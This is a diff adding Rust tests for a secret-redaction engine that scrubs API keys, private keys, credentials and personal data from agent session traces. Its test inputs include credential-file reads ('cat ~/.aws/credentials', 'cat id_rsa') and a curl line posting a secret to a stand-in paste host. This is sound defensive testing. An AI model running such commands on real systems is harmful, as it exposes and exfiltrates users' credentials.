@@ -1,0 +1,781 @@
+//! Redaction engine behaviour through the public API: one planted secret per
+//! built-in rule, idempotence, modes, allowlists, field and header rules, JSON
+//! inside strings, known-secret memory, config errors, precision (what must stay)
+//! and the real sessions in `../shared/formats/`.
+//!
+//! Every fake secret is assembled at run time from pieces, so no secret-shaped
+//! literal is committed (GitHub push protection and our own scanner would flag it).
+#![allow(clippy::unwrap_used)]
+
+use serde_json::{json, Value};
+use skilltrace::config::Config;
+use skilltrace::model::{Origin, Span, SpanKind};
+use skilltrace::redact::{Field, HashKey, Mode, Redactor, Report};
+
+/// Deterministic random-looking string over `alphabet`.
+fn rnd(n: usize, seed: u64, alphabet: &str) -> String {
+    let a = alphabet.as_bytes();
+    let mut x = seed
+        .wrapping_mul(6364136223846793005)
+        .wrapping_add(1442695040888963407);
+    (0..n)
+        .map(|_| {
+            x = x
+                .wrapping_mul(6364136223846793005)
+                .wrapping_add(1442695040888963407);
+            a[((x >> 33) % a.len() as u64) as usize] as char
+        })
+        .collect()
+}
+const ALNUM: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
+const UPNUM: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+const HEX: &str = "0123456789abcdef";
+const B64: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+fn alnum(n: usize, seed: u64) -> String {
+    rnd(n, seed, ALNUM)
+}
+
+/// (rule, text around the secret, the secret value that must disappear).
+fn planted() -> Vec<(&'static str, String, String)> {
+    let mut v: Vec<(&'static str, String, String)> = Vec::new();
+    let mut add = |rule: &'static str, secret: String, ctx: &dyn Fn(&str) -> String| {
+        v.push((rule, ctx(&secret), secret));
+    };
+    let body = format!(
+        "{}\n{}\n{}",
+        rnd(64, 1, B64),
+        rnd(64, 2, B64),
+        rnd(20, 3, B64)
+    );
+    add(
+        "private_key",
+        format!(
+            "-----BEGIN RSA PRIVATE {}-----\n{body}\n-----END RSA PRIVATE {}-----",
+            "KEY", "KEY"
+        ),
+        &|s| format!("$ cat id_rsa\n{s}\n$ ls"),
+    );
+    add(
+        "age_secret_key",
+        format!("AGE-SECRET-KEY-1{}", rnd(58, 4, UPNUM)),
+        &|s| format!("key: {s}"),
+    );
+    add(
+        "anthropic_admin_key",
+        format!("sk-ant-admin01-{}", alnum(60, 5)),
+        &|s| format!("ADMIN={s}"),
+    );
+    add(
+        "anthropic_api_key",
+        format!("sk-ant-api03-{}", alnum(90, 6)),
+        &|s| format!("ANTHROPIC_API_KEY={s}"),
+    );
+    add(
+        "openrouter_api_key",
+        format!("sk-or-v1-{}", rnd(64, 7, HEX)),
+        &|s| format!("key {s} used"),
+    );
+    add(
+        "openai_api_key",
+        format!("sk-proj-{}", alnum(120, 8)),
+        &|s| format!("client = OpenAI(api_key=\"{s}\")"),
+    );
+    add("groq_api_key", format!("gsk_{}", alnum(52, 9)), &|s| {
+        format!("GROQ={s}")
+    });
+    add("xai_api_key", format!("xai-{}", alnum(80, 10)), &|s| {
+        format!("XAI={s}")
+    });
+    add(
+        "perplexity_api_key",
+        format!("pplx-{}", alnum(48, 11)),
+        &|s| format!("P={s}"),
+    );
+    add(
+        "replicate_api_token",
+        format!("r8_{}", alnum(37, 12)),
+        &|s| format!("R={s}"),
+    );
+    add("huggingface_token", format!("hf_{}", alnum(34, 13)), &|s| {
+        format!("login {s}")
+    });
+    add("google_api_key", format!("AIza{}", alnum(35, 14)), &|s| {
+        format!("?key={s}&q=1")
+    });
+    add(
+        "google_oauth_refresh_token",
+        format!("1//0{}", alnum(60, 15)),
+        &|s| format!("refresh {s}"),
+    );
+    add(
+        "google_oauth_access_token",
+        format!("ya29.{}", alnum(80, 16)),
+        &|s| format!("access {s}"),
+    );
+    add("gcp_private_key_id", rnd(40, 17, HEX), &|s| {
+        format!("private_key_id = \"{s}\"")
+    });
+    add(
+        "aws_access_key_id",
+        format!("AKIA{}", rnd(16, 18, UPNUM)),
+        &|s| format!("id {s} ok"),
+    );
+    add("aws_secret_access_key", alnum(40, 19), &|s| {
+        format!("[default]\naws_secret_access_key = {s}\n")
+    });
+    add("aws_session_token", rnd(200, 20, B64), &|s| {
+        format!("aws_session_token={s}")
+    });
+    add(
+        "azure_storage_key",
+        format!("{}==", rnd(86, 21, B64)),
+        &|s| {
+            format!("DefaultEndpointsProtocol=https;AccountName=acct;AccountKey={s};EndpointSuffix=core.windows.net")
+        },
+    );
+    add(
+        "azure_sas_signature",
+        format!("{}%3D", alnum(43, 22)),
+        &|s| format!("https://acct.blob.core.windows.net/c/b.txt?sv=2022-11-02&sp=r&sig={s}"),
+    );
+    add("github_token", format!("ghp_{}", alnum(36, 23)), &|s| {
+        format!("git push https://x:{s}@github.com")
+    });
+    add(
+        "github_fine_grained_pat",
+        format!("github_pat_{}_{}", alnum(22, 24), alnum(59, 25)),
+        &|s| format!("GH={s}"),
+    );
+    add("gitlab_token", format!("glpat-{}", alnum(20, 26)), &|s| {
+        format!("token {s}")
+    });
+    add(
+        "slack_token",
+        format!(
+            "xoxb-{}-{}-{}",
+            rnd(12, 27, "0123456789"),
+            rnd(13, 28, "0123456789"),
+            alnum(24, 29)
+        ),
+        &|s| format!("SLACK {s}"),
+    );
+    add(
+        "slack_webhook",
+        format!(
+            "https://hooks.slack.com/services/T{}/B{}/{}",
+            rnd(8, 30, UPNUM),
+            rnd(10, 31, UPNUM),
+            alnum(24, 32)
+        ),
+        &|s| format!("curl -X POST {s}"),
+    );
+    add(
+        "discord_webhook",
+        format!(
+            "https://discord.com/api/webhooks/{}/{}",
+            rnd(18, 33, "0123456789"),
+            alnum(68, 34)
+        ),
+        &|s| format!("post to {s}"),
+    );
+    add(
+        "telegram_bot_token",
+        format!("{}:AA{}", rnd(9, 35, "123456789"), alnum(33, 36)),
+        &|s| format!("BOT={s}"),
+    );
+    add(
+        "stripe_secret_key",
+        format!("sk_{}_{}", "live", alnum(24, 37)),
+        &|s| format!("stripe.api_key = '{s}'"),
+    );
+    add(
+        "stripe_webhook_secret",
+        format!("whsec_{}", alnum(32, 38)),
+        &|s| format!("WH {s}"),
+    );
+    add(
+        "stripe_publishable_key",
+        format!("pk_{}_{}", "test", alnum(24, 39)),
+        &|s| format!("PK {s}"),
+    );
+    add("twilio_key", format!("SK{}", rnd(32, 40, HEX)), &|s| {
+        format!("TWILIO_API_KEY_SID {s}")
+    });
+    add(
+        "sendgrid_api_key",
+        format!("SG.{}.{}", alnum(22, 41), alnum(43, 42)),
+        &|s| format!("sg {s}"),
+    );
+    add("npm_token", format!("npm_{}", alnum(36, 43)), &|s| {
+        format!("NPM {s}")
+    });
+    add("npmrc_auth_token", rnd(36, 44, HEX), &|s| {
+        format!("//registry.npmjs.org/:_authToken={s}")
+    });
+    add(
+        "pypi_token",
+        format!("pypi-AgEIcHlwaS5vcmc{}", alnum(70, 45)),
+        &|s| format!("password = {s}"),
+    );
+    add(
+        "digitalocean_token",
+        format!("dop_v1_{}", rnd(64, 46, HEX)),
+        &|s| format!("DO {s}"),
+    );
+    add(
+        "jwt",
+        format!(
+            "eyJ{}.eyJ{}.{}",
+            alnum(30, 47),
+            alnum(60, 48),
+            alnum(43, 49)
+        ),
+        &|s| format!("jwt: {s}"),
+    );
+    add("bearer_token", alnum(40, 50), &|s| {
+        format!("curl -H 'X: Bearer {s}'")
+    });
+    add("authorization_header", alnum(24, 51), &|s| {
+        format!("Authorization: Basic {s}")
+    });
+    add("api_key_header", alnum(40, 52), &|s| {
+        format!("curl -H \"x-api-key: {s}\" https://api")
+    });
+    add(
+        "cookie_header",
+        format!("session={}", alnum(32, 53)),
+        &|s| format!("Cookie: {s}\r\nHost: x"),
+    );
+    add("url_credentials", format!("Pw{}", alnum(12, 54)), &|s| {
+        format!("DATABASE_URL=postgres://admin:{s}@db.internal:5432/app")
+    });
+    add("curl_basic_auth", format!("Pw{}", alnum(12, 55)), &|s| {
+        format!("curl -u admin:{s} https://x")
+    });
+    add("cli_secret_flag", format!("Pw{}", alnum(12, 56)), &|s| {
+        format!("mysql --password {s} -h db")
+    });
+    add("secret_assignment", format!("Pw{}", alnum(12, 57)), &|s| {
+        format!("DB_PASSWORD={s}\nHOME=/root")
+    });
+    add("email", "alice.smith@corp-mail.example".into(), &|s| {
+        format!("contact {s} today")
+    });
+    add(
+        "credit_card",
+        ["4111", "1111", "1111", "1111"].join(" "),
+        &|s| format!("card: {s} exp 12/29"),
+    );
+    add("us_ssn", ["123", "45", "6789"].join("-"), &|s| {
+        format!("SSN {s}.")
+    });
+    add(
+        "iban",
+        ["DE89", "3704", "0044", "0532", "0130", "00"].join(" "),
+        &|s| format!("IBAN: {s}"),
+    );
+    add("phone", ["+1", "415", "555", "2671"].join("-"), &|s| {
+        format!("call {s} now")
+    });
+    v
+}
+
+fn redact(r: &mut Redactor, text: &str) -> (String, Report) {
+    let mut rep = Report::default();
+    let out = r.redact_str("run-1", text, Field::Text, &mut rep);
+    (out, rep)
+}
+
+#[test]
+fn every_builtin_rule_has_a_planted_secret() {
+    let planted = planted();
+    let r = Redactor::builtin(Mode::Mask);
+    for (name, _, _) in r.rules() {
+        assert!(
+            planted.iter().any(|(p, _, _)| *p == name),
+            "no positive test for {name}"
+        );
+    }
+}
+
+#[test]
+fn each_planted_secret_is_redacted_and_named() {
+    for (rule, text, secret) in planted() {
+        let mut r = Redactor::builtin(Mode::Mask);
+        let (out, rep) = redact(&mut r, &text);
+        assert!(!out.contains(&secret), "{rule}: secret survived in {out:?}");
+        assert!(
+            out.contains(&format!("[REDACTED:{rule}]")),
+            "{rule}: {out:?}"
+        );
+        let m = rep
+            .matches
+            .iter()
+            .find(|m| m.rule == rule)
+            .unwrap_or_else(|| panic!("{rule}: {rep:?}"));
+        assert_eq!(m.field, Field::Text);
+        let at = text.find(&secret).unwrap();
+        assert!(
+            m.start <= at && m.end >= at + secret.len(),
+            "{rule}: range {}..{} vs {at}",
+            m.start,
+            m.end
+        );
+        // The report never carries the value.
+        assert!(!format!("{rep:?}").contains(&secret), "{rule}");
+    }
+}
+
+#[test]
+fn redacting_twice_changes_nothing_in_mask_and_hash_modes() {
+    for mode in [Mode::Mask, Mode::Hash] {
+        for (rule, text, _) in planted() {
+            let mut r = Redactor::builtin(mode);
+            let (once, _) = redact(&mut r, &text);
+            let mut fresh = Redactor::builtin(mode);
+            let (twice, rep) = redact(&mut fresh, &once);
+            assert_eq!(once, twice, "{rule} ({mode:?})");
+            assert!(rep.is_empty(), "{rule}: marker matched {rep:?}");
+        }
+    }
+}
+
+#[test]
+fn remove_mode_drops_values() {
+    for (rule, text, secret) in planted() {
+        let mut r = Redactor::builtin(Mode::Remove);
+        let (out, rep) = redact(&mut r, &text);
+        assert!(!out.contains(&secret), "{rule}");
+        assert!(!out.contains("[REDACTED"), "{rule}");
+        assert!(!rep.is_empty(), "{rule}");
+    }
+}
+
+#[test]
+fn hash_mode_correlates_equal_values_under_one_key() {
+    let key = HashKey::from_bytes([7; 32]);
+    let cfg = Config::from_text(None, "[redaction]\nmode = \"hash\"\n".into()).unwrap();
+    let mut r = Redactor::from_config(&cfg, key.clone()).unwrap();
+    assert_eq!(r.mode(), Mode::Hash);
+    let tok = format!("ghp_{}", alnum(36, 99));
+    let (a, _) = redact(&mut r, &format!("first {tok}"));
+    let (b, _) = redact(&mut r, &format!("again {tok} and ghp_{}", alnum(36, 98)));
+    let tag = a.trim_start_matches("first ").to_string();
+    assert!(
+        tag.starts_with("[HASH:github_token:") && tag.len() == "[HASH:github_token:]".len() + 8,
+        "{tag}"
+    );
+    assert!(
+        b.starts_with(&format!("again {tag} and [HASH:github_token:")),
+        "{b}"
+    );
+    assert!(!b.ends_with(&tag), "different secrets, different tags");
+    let mut other = Redactor::from_config(&cfg, HashKey::from_bytes([8; 32])).unwrap();
+    let (c, _) = redact(&mut other, &format!("first {tok}"));
+    assert_ne!(a, c, "another store's key gives another tag");
+}
+
+#[test]
+fn known_secret_memory_catches_bare_later_occurrences_in_the_same_run() {
+    let mut r = Redactor::builtin(Mode::Mask);
+    let secret = alnum(40, 60);
+    let mut rep = Report::default();
+    let first = format!("$ cat ~/.aws/credentials\n[default]\naws_secret_access_key = {secret}\n");
+    let out = r.redact_str("run-a", &first, Field::ToolOutput, &mut rep);
+    assert!(!out.contains(&secret));
+    let later = format!("curl -d 'k={secret}' https://paste.example");
+    let out = r.redact_str("run-a", &later, Field::ToolInput, &mut rep);
+    assert_eq!(
+        out,
+        "curl -d 'k=[REDACTED:aws_secret_access_key]' https://paste.example"
+    );
+    // Another run has its own memory: no context there, so no redaction.
+    let out = r.redact_str("run-b", &later, Field::ToolInput, &mut rep);
+    assert!(out.contains(&secret));
+}
+
+#[test]
+fn memory_reaches_back_within_one_span() {
+    let mut r = Redactor::builtin(Mode::Mask);
+    let secret = alnum(40, 61);
+    let mut span = Span::new(
+        "s1",
+        "run-m",
+        SpanKind::Tool,
+        "Bash",
+        Origin::new("f.jsonl", 3),
+    );
+    // The bare value comes in a field processed before the one that names it.
+    span.text = Some(format!("echo {secret}"));
+    span.tool_output = Some(format!("AWS_SECRET_ACCESS_KEY={secret}"));
+    let (out, rep) = r.redact_span(span);
+    let out = out.into_inner();
+    assert_eq!(
+        out.text.as_deref(),
+        Some("echo [REDACTED:aws_secret_access_key]")
+    );
+    assert!(!out.tool_output.unwrap().contains(&secret));
+    assert!(
+        rep.matches
+            .iter()
+            .any(|m| m.field == Field::Text && m.start == 5 && m.end == 45),
+        "{rep:?}"
+    );
+}
+
+#[test]
+fn span_fields_attributes_headers_and_nested_json() {
+    let mut r = Redactor::builtin(Mode::Mask);
+    let gh = format!("ghp_{}", alnum(36, 70));
+    let bearer = alnum(48, 71);
+    let pw = format!("Pw{}", alnum(10, 72));
+    let cookie = format!("sid={}", alnum(20, 73));
+    let mut span = Span::new(
+        "s2",
+        "run-x",
+        SpanKind::Tool,
+        "Bash",
+        Origin::new("f.jsonl", 9),
+    );
+    span.tool_input = Some(
+        json!({"command": format!("curl -H 'Authorization: token {gh}' https://api.github.com"),
+               "credentials": {"user": "bob", "password": pw}})
+        .to_string(),
+    );
+    // OTLP-style: messages as JSON inside a string attribute, itself holding JSON tool arguments.
+    let inner_args =
+        json!({"url": "https://example.org", "headers": {"X-Api-Key": bearer}}).to_string();
+    let messages =
+        json!([{"role": "assistant", "parts": [{"type": "tool_call", "arguments": inner_args}]}])
+            .to_string();
+    span.attributes
+        .insert("gen_ai.input.messages".into(), Value::String(messages));
+    span.attributes.insert(
+        "http.request.header.authorization".into(),
+        json!([format!("Bearer {bearer}")]),
+    );
+    span.attributes.insert(
+        "http.request.header.user-agent".into(),
+        json!(["curl/8.5.0"]),
+    );
+    span.attributes.insert(
+        "headers".into(),
+        json!([["cookie", cookie], ["accept", "text/html"]]),
+    );
+    span.attributes.insert("input_tokens".into(), json!(1234));
+    let (out, rep) = r.redact_span(span);
+    let out = out.into_inner();
+    let all = serde_json::to_string(&out).unwrap();
+    for s in [&gh, &bearer, &pw, &cookie] {
+        assert!(!all.contains(s.as_str()), "{s} leaked: {all}");
+    }
+    // Tool input stays valid JSON, with the user name kept.
+    let ti: Value = serde_json::from_str(out.tool_input.as_deref().unwrap()).unwrap();
+    assert_eq!(ti["credentials"]["user"], "bob");
+    assert_eq!(ti["credentials"]["password"], "[REDACTED:sensitive_field]");
+    assert!(ti["command"]
+        .as_str()
+        .unwrap()
+        .contains("[REDACTED:github_token]"));
+    // Nested JSON twice over is still valid JSON after redaction.
+    let msgs: Value =
+        serde_json::from_str(out.attributes["gen_ai.input.messages"].as_str().unwrap()).unwrap();
+    let args: Value =
+        serde_json::from_str(msgs[0]["parts"][0]["arguments"].as_str().unwrap()).unwrap();
+    assert_eq!(args["headers"]["X-Api-Key"], "[REDACTED:sensitive_header]");
+    assert_eq!(args["url"], "https://example.org");
+    // A header value is redacted whole; the marker names the rule that matches inside, if any.
+    assert_eq!(
+        out.attributes["http.request.header.authorization"],
+        json!(["[REDACTED:bearer_token]"])
+    );
+    assert_eq!(
+        out.attributes["http.request.header.user-agent"],
+        json!(["curl/8.5.0"])
+    );
+    assert_eq!(
+        out.attributes["headers"],
+        json!([
+            ["cookie", "[REDACTED:sensitive_header]"],
+            ["accept", "text/html"]
+        ])
+    );
+    assert_eq!(out.attributes["input_tokens"], json!(1234));
+    // The report names fields and rules, with raw ranges that locate the value.
+    let raw_in =
+        json!({"command": format!("curl -H 'Authorization: token {gh}' https://api.github.com"),
+               "credentials": {"user": "bob", "password": pw}})
+        .to_string();
+    let m = rep
+        .matches
+        .iter()
+        .find(|m| m.field == Field::ToolInput && m.rule == "github_token")
+        .unwrap();
+    assert_eq!(&raw_in[m.start..m.end], gh);
+    assert!(rep.matches.iter().any(|m| m.field
+        == Field::Attribute("http.request.header.authorization".into())
+        && m.rule == "bearer_token"));
+}
+
+#[test]
+fn json_key_gives_context_to_its_value() {
+    let mut r = Redactor::builtin(Mode::Mask);
+    let secret = alnum(40, 80);
+    let sid = format!("AC{}", rnd(32, 81, HEX));
+    let text = json!({"Credentials": {"AccessKeyId": "x", "SecretAccessKey": secret}, "twilio_account_sid": sid}).to_string();
+    let (out, rep) = redact(&mut r, &text);
+    assert!(!out.contains(&secret) && !out.contains(&sid), "{out}");
+    let names: Vec<&str> = rep.matches.iter().map(|m| m.rule.as_str()).collect();
+    assert!(
+        names.contains(&"aws_secret_access_key") && names.contains(&"twilio_key"),
+        "{names:?}"
+    );
+}
+
+#[test]
+fn pem_blocks_go_whole_even_json_escaped_or_cut_off() {
+    let mut r = Redactor::builtin(Mode::Mask);
+    let body = rnd(64, 90, B64);
+    let begin = format!("-----BEGIN OPENSSH PRIVATE {}-----", "KEY");
+    let end = format!("-----END OPENSSH PRIVATE {}-----", "KEY");
+    let escaped = format!(
+        "{{\"type\": \"service_account\", \"private_key\": \"{begin}\\n{body}\\n{end}\\n\"}}"
+    );
+    let (out, _) = redact(&mut r, &escaped);
+    assert!(!out.contains(&body) && !out.contains("BEGIN"), "{out}");
+    let v: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v["type"], "service_account");
+    let cut = format!("{begin}\n{body}\n{}…[truncated 900 chars]", &body[..30]);
+    let (out, _) = redact(&mut r, &cut);
+    assert!(!out.contains(&body[..30]), "{out}");
+    assert!(out.starts_with("[REDACTED:private_key]"), "{out}");
+}
+
+#[test]
+fn precision_leaves_lookalikes_alone() {
+    let png = {
+        use base64::Engine;
+        let bytes: Vec<u8> = (0..3000u32)
+            .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
+            .collect();
+        format!(
+            "data:image/png;base64,{}",
+            base64::engine::general_purpose::STANDARD.encode(bytes)
+        )
+    };
+    let clean = [
+        "commit 4f2a9c1 fixes it; full sha 7078dc6b1ce5dd75a54ad14563c663530b82963b",
+        "git checkout 19f8748648146d82ee1ad92387fc9d93613f022b",
+        "id 550e8400-e29b-41d4-a716-446655440000 and 12345678-1234-5678-1234-567812345678",
+        "\"timestamp\": 1739376145227, \"ts_ns\": 1700000000000000000, \"epoch\": 1700000000",
+        "2026-02-12T16:02:25.227Z started; version 0.104.0-alpha.1 on 192.168.100.200:8080",
+        "task-management-system and risk-assessment-framework-v2 use sk-learn",
+        "<task-notification>\n<task-id>b7636e2</task-id>",
+        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+        "Enter your password in the password field, then refresh the token.",
+        "password_field = form.fields['password']",
+        "token = get_token()",
+        "def check_password(password: str) -> bool:",
+        "api_key: Optional[str] = None",
+        "export GITHUB_TOKEN=${GITHUB_TOKEN}",
+        "max_tokens: 4096, tokens: 76365, input_tokens=1234",
+        "secret_santa_list = []",
+        "headers = {\"Authorization\": f\"Bearer {token}\"}",
+        "Use Bearer token authentication for the API.",
+        "password = os.environ[\"DB_PASSWORD\"]",
+        "cwd=/home/USER/projects/spotter; PWD=/home/USER",
+        "npm install @types/node lodash@4.17.21; see icon@2x.png; git@github.com:org/repo.git",
+        "[REDACTED_ENCRYPTED_CONTENT len=1764 sha=e23f6ec6]",
+        "https://github.com/org/repo/blob/main/README.md?plain=1",
+        "Bearer my-secret-token-goes-here",
+        "phone-number-field and 1-800-FLOWERS",
+    ];
+    let mut r = Redactor::builtin(Mode::Mask);
+    for text in clean.iter().map(|s| s.to_string()).chain([png]) {
+        let (out, rep) = redact(&mut r, &text);
+        assert!(rep.is_empty(), "{text:.80}: {rep:?}");
+        assert_eq!(out, text);
+    }
+}
+
+/// Every string value in a JSON document, with its path.
+fn strings(v: &Value, path: &str, out: &mut Vec<(String, String)>) {
+    match v {
+        Value::String(s) => out.push((path.to_string(), s.clone())),
+        Value::Array(a) => a.iter().for_each(|x| strings(x, path, out)),
+        Value::Object(m) => m
+            .iter()
+            .for_each(|(k, x)| strings(x, &format!("{path}.{k}"), out)),
+        _ => {}
+    }
+}
+
+fn format_lines(dir: &str) -> Vec<(String, String)> {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../shared/formats")
+        .join(dir);
+    let root = if root.exists() {
+        root
+    } else {
+        std::path::PathBuf::from("/work/shared/formats").join(dir)
+    };
+    let mut out = Vec::new();
+    for e in std::fs::read_dir(&root).unwrap() {
+        let p = e.unwrap().path();
+        if p.extension().is_some_and(|x| x == "jsonl") {
+            for line in std::fs::read_to_string(&p).unwrap().lines() {
+                out.push((p.display().to_string(), line.to_string()));
+            }
+        }
+    }
+    assert!(out.len() > 20, "{dir}: {}", out.len());
+    out
+}
+
+#[test]
+fn real_sessions_redact_nothing_but_what_is_planted() {
+    let mut lines = format_lines("claude-code");
+    lines.extend(format_lines("codex"));
+    let mut r = Redactor::builtin(Mode::Mask);
+    // The sanitised real sessions hold no secret or PII: ids, UUIDs, timestamps, paths,
+    // token counts, hook commands and `[REDACTED_...]` placeholders must all survive.
+    for (path, line) in &lines {
+        let v: Value = serde_json::from_str(line).unwrap();
+        let mut all = Vec::new();
+        strings(&v, "", &mut all);
+        for (p, s) in all {
+            let (out, rep) = redact(&mut r, &s);
+            assert!(rep.is_empty(), "{path} {p}: {s:.120} -> {rep:?}");
+            assert_eq!(out, s);
+        }
+        let (out, rep) = redact(&mut r, line);
+        assert!(rep.is_empty(), "{path}: whole line matched {rep:?}");
+        assert_eq!(&out, line);
+    }
+    // Plant a key into one real tool result: exactly that value changes, nothing else.
+    let (_, line) = lines
+        .iter()
+        .find(|(_, l)| l.contains("\"tool_result\""))
+        .unwrap();
+    let key = format!("sk-ant-api03-{}", alnum(90, 100));
+    let mut v: Value = serde_json::from_str(line).unwrap();
+    let content = &mut v["message"]["content"][0]["content"];
+    let original = content
+        .as_str()
+        .map(str::to_string)
+        .unwrap_or_else(|| content.to_string());
+    *content = Value::String(format!("{original}\nANTHROPIC_API_KEY={key}"));
+    let planted = v.to_string();
+    let (out, rep) = redact(&mut r, &planted);
+    assert_eq!(rep.matches.len(), 1, "{rep:?}");
+    assert_eq!(rep.matches[0].rule, "anthropic_api_key");
+    let back: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(
+        back["message"]["content"][0]["content"],
+        Value::String(format!(
+            "{original}\nANTHROPIC_API_KEY=[REDACTED:anthropic_api_key]"
+        ))
+    );
+    let mut expect = v.clone();
+    expect["message"]["content"][0]["content"] = back["message"]["content"][0]["content"].clone();
+    assert_eq!(back, expect, "every other field is unchanged");
+}
+
+#[test]
+fn config_rules_allowlists_fields_and_disable() {
+    let text = r#"
+[redaction]
+mode = "mask"
+disable = ["phone"]
+allowlist = ["test@example.com"]
+allowlist_patterns = ['.*@corp\.example']
+field_paths = ["auth.pin", "employee_code"]
+headers = ["x-internal-token"]
+
+[[redaction.rules]]
+name = "employee_id"
+pattern = 'EMP-\d{6}'
+keywords = ["emp-"]
+severity = "low"
+"#;
+    let cfg = Config::from_text(Some("/tmp/cfg.toml".into()), text.into()).unwrap();
+    let mut r = Redactor::from_config(&cfg, HashKey::random()).unwrap();
+    assert!(r.is_enabled());
+    let (out, rep) = redact(&mut r, "EMP-123456 mailed test@example.com, bob@corp.example and eve@evil.example; call +1-415-555-2671");
+    assert_eq!(out, "[REDACTED:employee_id] mailed test@example.com, bob@corp.example and [REDACTED:email]; call +1-415-555-2671");
+    assert_eq!(rep.matches[0].severity, skilltrace::model::Severity::Low);
+    let doc = json!({"auth": {"pin": 4321, "user": "x"}, "employee_code": "A1", "x-internal-token": "abcdefgh"}).to_string();
+    let (out, _) = redact(&mut r, &doc);
+    let v: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v["auth"]["pin"], "[REDACTED:sensitive_field]");
+    assert_eq!(v["auth"]["user"], "x");
+    assert_eq!(v["employee_code"], "[REDACTED:sensitive_field]");
+    assert_eq!(v["x-internal-token"], "[REDACTED:sensitive_header]");
+}
+
+#[test]
+fn config_errors_are_one_line_and_build_nothing() {
+    let bad = "[redaction]\nmode = \"mask\"\n\n[[redaction.rules]]\nname = \"broken\"\npattern = 'EMP-(\\d{6}'\n";
+    let cfg = Config::from_text(Some("/tmp/c.toml".into()), bad.into()).unwrap();
+    let e = Redactor::from_config(&cfg, HashKey::random())
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.starts_with("/tmp/c.toml:5: redaction rule 'broken': pattern does not compile"),
+        "{e}"
+    );
+    assert!(!e.contains('\n'), "{e}");
+    let cfg = Config::from_text(None, "[redaction]\ndisable = [\"nope\"]\n".into()).unwrap();
+    let e = Redactor::from_config(&cfg, HashKey::random())
+        .unwrap_err()
+        .to_string();
+    assert!(e.contains("'nope'") && e.contains(":2:"), "{e}");
+    let cfg = Config::from_text(None, "[redaction]\nmode = \"shout\"\n".into()).unwrap();
+    assert!(Redactor::from_config(&cfg, HashKey::random()).is_err());
+    let cfg = Config::from_text(None, "[redaction]\nallowlist_patterns = ['(']\n".into()).unwrap();
+    assert!(Redactor::from_config(&cfg, HashKey::random()).is_err());
+}
+
+#[test]
+fn disabling_must_be_explicit() {
+    let cfg = Config::from_text(None, "[redaction]\nmode = \"hash\"\n".into()).unwrap();
+    assert!(Redactor::from_config(&cfg, HashKey::random())
+        .unwrap()
+        .is_enabled());
+    assert!(Redactor::from_config(&Config::default(), HashKey::random())
+        .unwrap()
+        .is_enabled());
+    let cfg = Config::from_text(None, "[redaction]\nenabled = false\n".into()).unwrap();
+    let mut r = Redactor::from_config(&cfg, HashKey::random()).unwrap();
+    assert!(!r.is_enabled());
+    let t = format!("ghp_{}", alnum(36, 1));
+    assert_eq!(redact(&mut r, &t).0, t);
+}
+
+#[test]
+fn findings_runs_and_errors_are_redacted_too() {
+    let mut r = Redactor::builtin(Mode::Mask);
+    let tok = format!("ghp_{}", alnum(36, 5));
+    let run = skilltrace::model::Run {
+        id: "r".into(),
+        title: Some(format!("use {tok}")),
+        ..Default::default()
+    };
+    assert_eq!(
+        r.redact_run(run).get().title.as_deref(),
+        Some("use [REDACTED:github_token]")
+    );
+    let err = skilltrace::model::ParseError {
+        path: "f".into(),
+        line: 1,
+        message: format!("bad {tok}"),
+    };
+    assert_eq!(
+        r.redact_parse_error(err).get().message,
+        "bad [REDACTED:github_token]"
+    );
+    assert_eq!(
+        r.redact_text(&format!("log {tok}")).get(),
+        "log [REDACTED:github_token]"
+    );
+}
